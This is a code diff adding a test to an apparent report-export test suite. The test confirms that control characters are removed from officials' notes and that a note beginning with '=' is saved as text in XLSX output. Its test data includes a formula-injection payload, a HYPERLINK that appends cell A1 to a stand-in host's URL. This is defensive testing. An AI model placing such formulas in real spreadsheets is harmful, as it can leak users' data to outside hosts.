@@ -72,3 +72,26 @@ def test_a_long_section_quotes_the_first_lines_and_says_how_many_more() -> None:
     assert "- Và 7 mô hình khác (chi tiết tại tệp Excel kèm theo, trang “Ý kiến”)." in texts
     few = [p.text for p in Document(io.BytesIO(docx_bytes(report("Xã A", "commune", None, 3)))).paragraphs]
     assert sum("Mô hình số" in text for text in few) == 3 and not any(text.startswith("- Và") for text in few)
+
+
+def test_what_an_official_typed_is_exported_as_text_whatever_it_holds() -> None:
+    """A control character in a note made every ancestor's DOCX and XLSX fail; a note starting
+    with '=' was written into the XLSX as a formula."""
+    from openpyxl import load_workbook
+
+    from services.reports.documents import xlsx_bytes
+
+    typed = report("Xã Ia Hrú", "commune", "Tỉnh Gia Lai", good_models=1)
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"bấm")'
+    typed.highlights["good_models"][0]["text"] = "Mô hình\u0007 hay\x0b" + "\ufffe"
+    typed.highlights["good_models"].append({**typed.highlights["good_models"][0], "text": formula})
+
+    text = "\n".join(p.text for p in Document(io.BytesIO(docx_bytes(typed))).paragraphs)
+    assert "Mô hình hay" in text and "\u0007" not in text
+
+    workbook = load_workbook(io.BytesIO(xlsx_bytes(typed)))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert any(cell.value == "Mô hình hay" for cell in cells)
+    typed_formula = [cell for cell in cells if str(cell.value).startswith("=")]
+    assert [cell.value for cell in typed_formula] == [formula]
+    assert all(cell.data_type == "s" for cell in typed_formula)
